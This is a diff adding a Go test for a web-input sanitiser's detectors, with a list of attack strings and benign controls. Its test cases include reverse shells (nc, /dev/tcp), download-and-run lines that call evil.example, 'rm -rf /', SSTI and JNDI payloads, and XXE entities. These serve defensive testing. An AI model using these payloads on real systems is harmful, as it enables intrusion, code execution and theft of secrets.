@@ -1,0 +1,225 @@
+package sanitize
+
+import (
+	"testing"
+)
+
+// detectorCases are attacks (want = the rule) and benign controls (want = "") run through the
+// normalizer and every detector on a route with the default config.
+var detectorCases = []struct {
+	want, loc, value string
+}{
+	// cmd_injection: separators and substitutions followed by a command.
+	{RuleCmdInjection, "query.q", ";cat /tmp/x"},
+	{RuleCmdInjection, "query.q", "x;cat /tmp/hosts"},
+	{RuleCmdInjection, "query.q", "| id"},
+	{RuleCmdInjection, "query.q", "1|id"},
+	{RuleCmdInjection, "query.q", "127.0.0.1 && whoami"},
+	{RuleCmdInjection, "query.q", "a$(whoami)"},
+	{RuleCmdInjection, "query.q", "$(cat /tmp/x)"},
+	{RuleCmdInjection, "query.q", "x`id`"},
+	{RuleCmdInjection, "query.q", "`uname -a`"},
+	{RuleCmdInjection, "query.q", ";cat${IFS}/tmp/x"},
+	{RuleCmdInjection, "query.q", ";cat$IFS$9/tmp/x"},
+	{RuleCmdInjection, "query.q", "1;sleep 5"},
+	{RuleCmdInjection, "query.q", "1; sleep 5 #"},
+	{RuleCmdInjection, "query.q", "hello\nwhoami"},
+	{RuleCmdInjection, "query.q", "hello%0acat /tmp/x"},
+	{RuleCmdInjection, "query.q", "& dir"},
+	{RuleCmdInjection, "query.q", "x & dir c:\\"},
+	{RuleCmdInjection, "query.q", "| type c:\\x.txt"},
+	{RuleCmdInjection, "query.q", "cmd.exe /c dir"},
+	{RuleCmdInjection, "query.q", "x|cmd /c whoami"},
+	{RuleCmdInjection, "query.q", "powershell -enc SQBFAFgA"},
+	{RuleCmdInjection, "query.q", "PowerShell.exe -nop -w hidden"},
+	{RuleCmdInjection, "query.q", "IEX (New-Object Net.WebClient).DownloadString('http://x/a')"},
+	{RuleCmdInjection, "query.q", "/bin/sh -c id"},
+	{RuleCmdInjection, "query.q", ";nc -e /bin/sh 10.0.0.1 4444"},
+	{RuleCmdInjection, "query.q", "; nc 10.0.0.1 4444 -e sh"},
+	{RuleCmdInjection, "query.q", "; curl http://evil.example/x.sh | sh"},
+	{RuleCmdInjection, "query.q", "curl -s http://evil.example/x|bash"},
+	{RuleCmdInjection, "query.q", ";wget http://evil.example/x -O /tmp/x"},
+	{RuleCmdInjection, "query.q", "&& wget evil.example/x"},
+	{RuleCmdInjection, "query.q", ";c''at /tmp/x"},
+	{RuleCmdInjection, "query.q", ";c\\at /tmp/x"},
+	{RuleCmdInjection, "query.q", ";c\"a\"t /tmp/x"},
+	{RuleCmdInjection, "query.q", ";/???/c?t /tmp/x"},
+	{RuleCmdInjection, "query.q", ";/bi[n]/ca[t] x"},
+	{RuleCmdInjection, "query.q", ";c$@at /tmp/x"},
+	{RuleCmdInjection, "query.q", ";w$@hoami"},
+	{RuleCmdInjection, "query.q", ";who$()ami"},
+	{RuleCmdInjection, "query.q", "{cat,/tmp/x}"},
+	{RuleCmdInjection, "query.q", "x;$SHELL -c id"},
+	{RuleCmdInjection, "query.q", "() { :; }; echo vulnerable"},
+	{RuleCmdInjection, "query.q", "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1"},
+	{RuleCmdInjection, "query.q", "ls -la"},
+	{RuleCmdInjection, "query.q", "/usr/bin/perl -e 'print 1'"},
+	{RuleCmdInjection, "query.q", "for /f %i in (x.txt) do echo %i"},
+	{RuleCmdInjection, "query.q", "if exist c:\\x.txt echo found"},
+	{RuleCmdInjection, "query.q", "time nohup whoami"},
+	{RuleCmdInjection, "query.q", "%3Bcat%20%2Ftmp%2Fx"},
+	{RuleCmdInjection, "query.q", "%253Bid"},
+	{RuleCmdInjection, "query.q", "&#59;id"},
+	{RuleCmdInjection, "json.cmd", "x; rm -rf /"},
+	{RuleCmdInjection, "cookie.c", "a|whoami"},
+	// cmd_injection benign controls.
+	{"", "query.q", "Tom & Jerry; cats | dogs"},
+	{"", "query.q", "rock & roll; more to come"},
+	{"", "query.q", "dogs; cat people are weird"},
+	{"", "query.q", "passport & ID"},
+	{"", "query.q", "Skills: Java; PHP; Python; Ruby"},
+	{"", "query.q", "Price: $5 or $10 & free shipping"},
+	{"", "query.q", "cat food"},
+	{"", "query.q", "sleep tips for babies"},
+	{"", "query.q", "python tutorial"},
+	{"", "query.q", "curl hair styles"},
+	{"", "query.q", "powershell tutorial"},
+	{"", "query.q", "whoami lyrics"},
+	{"", "query.q", "time flies like an arrow"},
+	{"", "query.q", "Q&A: what is 2 + 2?"},
+	{"", "query.q", "https://example.com/bin/download?id=5&x=1"},
+	{"", "query.q", "jane.doe@example.com"},
+	{"", "query.q", "a | b | c"},
+	{"", "query.q", "Hello,\nCat and I will be late.\nThanks"},
+	{"", "json.code", "x = items.filter(i => i.ok || i.force); done();"},
+	{"", "json.code", "for (i = 0; i < n; i++) { printf(\"%d\", i); }"},
+	{"", "json.code", "for x in (1, 2, 3): print(x)"},
+	{"", "json.code", "if a == b: return"},
+	{"", "json.code", "x = a || b; y = c && d;"},
+	{"", "json.text", "Use the cd-rom; then type your name."},
+	{"", "json.text", "I'm at home; call me later"},
+	{"", "json.text", "Fish & Chips - £9.50; Kids menu | Drinks"},
+	{"", "json.text", "Meeting @ 10:30 (bring laptop)"},
+	{"", "json.text", "2*(3+4)/7 = 2"},
+	{"", "json.text", "C:\\Users\\me\\Documents"},
+	{"", "json.text", "/home/user/documents/report.docx"},
+	{"", "json.text", "see https://en.wikipedia.org/wiki/Cat_(disambiguation)"},
+	{"", "json.text", "50% off; today only!"},
+	{"", "json.text", "Tom & Jerry's; set of 3 | start: Monday"},
+	{"", "json.text", "He said find me later; I agreed."},
+
+	// crlf
+	{RuleCRLF, "query.next", "/home%0d%0aSet-Cookie:%20session=x"},
+	{RuleCRLF, "query.next", "/x\r\nLocation: http://evil.example/"},
+	{RuleCRLF, "query.lang", "en%0d%0a%0d%0aHTTP/1.1 200 OK"},
+	{RuleCRLF, "form.r", "a%0AContent-Length:%200"},
+	{RuleCRLF, "cookie.c", "a%0d%0aX-Injected:%201"},
+	{RuleCRLF, "query.q", "%250d%250aSet-Cookie:x=1"},
+	{RuleCRLF, "path[0]", "a%0d%0ab"},
+	{RuleCRLF, "query.a", "GET http://example.com/ HTTP/1.1"},
+	{"", "form.address", "12 Main St\r\nLocation: Dublin\r\nDate: Monday"},
+	{"", "form.message", "Hello\r\nHost: John\r\nThanks"},
+	{"", "json.x", "a\r\nSet-Cookie: x=1"},
+	{"", "query.q", "Set-Cookie header explained"},
+
+	// ssti
+	{RuleSSTI, "query.name", "{{7*7}}"},
+	{RuleSSTI, "query.name", "${7*7}"},
+	{RuleSSTI, "query.name", "<%= 7*7 %>"},
+	{RuleSSTI, "query.name", "#{7*7}"},
+	{RuleSSTI, "query.name", "{{7*'7'}}"},
+	{RuleSSTI, "query.name", "{% import os %}{{ os.popen('id').read() }}"},
+	{RuleSSTI, "query.name", "{{''.__class__.__mro__[1].__subclasses__()}}"},
+	{RuleSSTI, "query.name", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"},
+	{RuleSSTI, "query.name", "{{config}}"},
+	{RuleSSTI, "query.name", "{{ config.items() }}"},
+	{RuleSSTI, "query.name", "{{self.__dict__}}"},
+	{RuleSSTI, "query.name", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"},
+	{RuleSSTI, "query.name", "#set($x = 1)"},
+	{RuleSSTI, "query.name", "${T(java.lang.System).getenv()}"},
+	{RuleSSTI, "query.name", "<%= system('id') %>"},
+	{RuleSSTI, "query.name", "%7B%7B7*7%7D%7D"},
+	{RuleSSTI, "query.name", "{{ 7 * 7 }}"},
+	{"", "query.name", "{{name}}"},
+	{"", "json.tpl", "Hello {{ user.first_name | title }}, your order {{order.id}} shipped"},
+	{"", "json.tpl", "{% if user %}Hi {{ user }}{% endif %}"},
+	{"", "json.tpl", "Total: ${price}"},
+	{"", "json.code", "const msg = `Total: ${items.length * price}`;"},
+	{"", "json.code", "class Foo:\n    def __init__(self):\n        self.x = 1"},
+	{"", "json.tpl", "#{id}"},
+	{"", "json.text", "Use {{ and }} to escape braces"},
+
+	// ldap
+	{RuleLDAP, "form.user", "*)(uid=*))(|(uid=*"},
+	{RuleLDAP, "form.user", "admin)(|(password=*)"},
+	{RuleLDAP, "form.user", "*)(&"},
+	{RuleLDAP, "form.user", "(objectClass=*)"},
+	{RuleLDAP, "form.user", "x)(&(objectCategory=person)"},
+	{RuleLDAP, "form.user", "admin*)((|userPassword=*)"},
+	{"", "form.text", "(see above)(and below)"},
+	{"", "json.code", "memset(&(x), 0, n);"},
+	{"", "json.text", "(a+b)*(c-d)"},
+	{"", "json.text", "f(x)(y) = 3"},
+	{"", "json.text", "Smiles :) (really)"},
+
+	// xxe
+	{RuleXXE, "form.x", "<!ENTITY xxe SYSTEM \"file:///etc/hostname\">"},
+	{RuleXXE, "json.x", "<!DOCTYPE foo [<!ENTITY % xxe SYSTEM \"http://evil.example/x.dtd\"> %xxe;]>"},
+	{RuleXXE, "json.x", "<!DOCTYPE foo SYSTEM \"http://evil.example/x.dtd\">"},
+	{RuleXXE, "query.x", "%xxe;"},
+	{RuleXXE, "query.x", "SYSTEM 'file:///c:/boot.ini'"},
+	{RuleXXE, "query.x", "%3C%21ENTITY%20x%20SYSTEM%20%22file%3A%2F%2F%2Fx%22%3E"},
+	{"", "json.text", "The system \"works\" fine"},
+	{"", "json.text", "50%; 20%; 30%"},
+	{"", "json.code", "printf(\"%d;\", x)"},
+
+	// jndi
+	{RuleJNDI, "header.user-agent", "${jndi:ldap://evil.example/a}"},
+	{RuleJNDI, "query.q", "${${lower:j}ndi:ldap://x/a}"},
+	{RuleJNDI, "query.q", "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}"},
+	{RuleJNDI, "query.q", "${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://x/a}"},
+	{RuleJNDI, "query.q", "${j${k8s:k5:-ND}i:ldap://x/a}"},
+	{RuleJNDI, "query.q", "${env:AWS_SECRET_ACCESS_KEY}"},
+	{RuleJNDI, "query.q", "${sys:java.version}"},
+	{RuleJNDI, "query.q", "%24%7Bjndi%3Adns%3A%2F%2Fx%7D"},
+	{RuleJNDI, "query.q", "${ jndi:ldap://x/a}"},
+	{"", "json.code", "const s = `${user.name}: ${count}`;"},
+	{"", "json.text", "costs ${price} dollars"},
+
+	// nosql
+	{RuleNoSQL, "query.user[$ne]", "user[$ne]"},
+	{RuleNoSQL, "json.password.$gt", "$gt"},
+	{RuleNoSQL, "query.q", "{\"$where\": \"sleep(100)\"}"},
+	{RuleNoSQL, "query.q", "[$regex]=.*"},
+	{RuleNoSQL, "json.q", "$expr"},
+	{"", "query.q", "$5 or $10"},
+	{"", "query.q", "costs $ne"[0:6]},
+	{"", "json.text", "use $inner and $gtx vars"},
+
+	// scanner
+	{RuleScanner, "header.user-agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"},
+	{RuleScanner, "header.user-agent", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)"},
+	{RuleScanner, "header.user-agent", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"},
+	{RuleScanner, "header.user-agent", "Fuzz Faster U Fool v2.1.0 (ffuf)"},
+	{RuleScanner, "header.user-agent", "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)"},
+	{RuleScanner, "header.user-agent", "gobuster/3.6"},
+	{RuleScanner, "header.user-agent", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)"},
+	{"", "header.user-agent", "curl/8.5.0"},
+	{"", "header.user-agent", "Wget/1.21.4"},
+	{"", "header.user-agent", "python-requests/2.31.0"},
+	{"", "header.user-agent", "Go-http-client/1.1"},
+	{"", "header.user-agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"},
+	{"", "header.referer", "https://en.wikipedia.org/wiki/Atomic_nuclei"},
+	{"", "query.q", "sqlmap tutorial"},
+}
+
+func TestDetectors(t *testing.T) {
+	p, err := Parse([]byte(`{}`))
+	if err != nil {
+		t.Fatal(err)
+	}
+	r := p.(*Policy).def
+	n := p.(*Policy).norm
+	for _, c := range detectorCases {
+		enc := encNone
+		if c.loc[:5] == "query" || c.loc[:4] == "form" {
+			enc = encQuery
+		} else if c.loc[:4] == "path" || c.loc[:6] == "cookie" {
+			enc = encURL
+		}
+		v, _ := n.normalize(c.value, enc)
+		if got, _ := r.detect(v, c.loc); got != c.want {
+			t.Errorf("%s %q: got %q, want %q", c.loc, c.value, got, c.want)
+		}
+	}
+}
